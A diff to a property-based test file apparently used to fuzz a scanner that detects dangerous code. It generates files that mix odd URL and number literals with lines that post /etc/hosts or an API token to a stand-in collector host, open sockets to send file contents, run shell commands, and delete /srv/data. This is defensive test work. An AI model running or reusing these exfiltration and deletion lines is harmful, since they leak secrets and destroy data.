@@ -288,6 +288,65 @@ def kept_dangerous(draw: st.DrawFn, language: str) -> str:
     return text
 
 
+# -- odd literals in an otherwise normal file -----------------------------------------------------
+
+ODD_HOSTS = ["host[.]example.com", "[::1]", "[fe80::1%eth0]", "[not-an-ip]", "[", "]", "[]", "h[.]x[.]y",
+             "user@[::1]", "example.com:99999999999999999999", "example.com:-1", "example.com:port",
+             "xn--", "\u2603.example", "ex\x00ample.com", "a" * 300, "%5b::1%5d", "..", "@", ":"]
+ODD_SCHEMES = ["https", "http", "hxxps", "s3", "gs", "ftp", "file", "data", "javascript", "HTTPS", "1http", "", "s3+x"]
+ODD_VALUES = ["10**400", "-10**400", "1e309", "0x" + "f" * 80, "b'\\x00\\xff'", "'\\x00'", "None", "...", "1j",
+              "(1, 2, 3)", "[None]", "{'a': {}}", "float('nan')"]
+
+# Where an odd literal is used: each line a normal program may hold, `{v}` the literal.
+ODD_PLACES = [
+    "requests.post({v}, data=open('/etc/hosts').read())\n",
+    "requests.get({v}, params={{'q': os.environ['API_TOKEN']}})\n",
+    "requests.get({v})\n",
+    "urllib.request.urlopen({v}, b'x')\n",
+    "socket.gethostbyname({v})\n",
+    "socket.gethostbyname({v} + open('/etc/hosts').read())\n",
+    "smtplib.SMTP({v}).sendmail('a', 'b', open('/etc/hosts').read())\n",
+    "s = socket.socket()\ns.connect(({v}, 443))\ns.sendall(open('/etc/hosts').read().encode())\n",
+    "df.to_csv({v})\n",
+    "os.remove({v})\n",
+    "x = {v}\n",
+    "cursor.execute({v})\n",
+    "subprocess.run({v}, shell=True)\n",
+]
+ODD_PREAMBLE = "import os, socket, smtplib, subprocess, urllib.request\nimport requests\n"
+
+
+@st.composite
+def odd_literal(draw: st.DrawFn) -> str:
+    """A Python literal no program should trip over: defanged URLs, IPv6 brackets, huge ports,
+    odd schemes, NUL bytes, huge numbers."""
+    if draw(st.booleans()):
+        scheme = draw(st.sampled_from(ODD_SCHEMES))
+        host = draw(st.sampled_from(ODD_HOSTS))
+        path = draw(st.sampled_from(["", "/", "/x?a=1", "#frag", "/[a]"]))
+        return repr(f"{scheme}://{host}{path}" if scheme else f"{host}{path}")
+    return draw(st.sampled_from(ODD_VALUES))
+
+
+@st.composite
+def odd_literal_file(draw: st.DrawFn) -> tuple[str, dict[str, int]]:
+    """A normal file with odd literals in it, and the line of each finding that must survive."""
+    lines = [ODD_PREAMBLE]
+    for _ in range(draw(st.integers(1, 4))):
+        lines.append(draw(st.sampled_from(ODD_PLACES)).format(v=draw(odd_literal())))
+    kept = {"py.fs-delete-tree": 'import shutil\nshutil.rmtree("/srv/data")\n',
+            "py.exfil-request": 'requests.post("https://collector.example.net/in", data=open("/etc/hosts").read())\n'}
+    where = {}
+    for snippet in kept.values():
+        at = draw(st.integers(1, len(lines)))
+        lines.insert(at, snippet)
+    text = "".join(lines)
+    for rule, snippet in kept.items():
+        last = snippet.rstrip("\n").splitlines()[-1]
+        where[rule] = text.splitlines().index(last) + 1
+    return text, where
+
+
 # -- the evasion suite (tests/fixtures/evasion, tests/test_evasion.py, bench/evasion_report.py) ------
 
 EVASION = FIXTURES / "evasion"
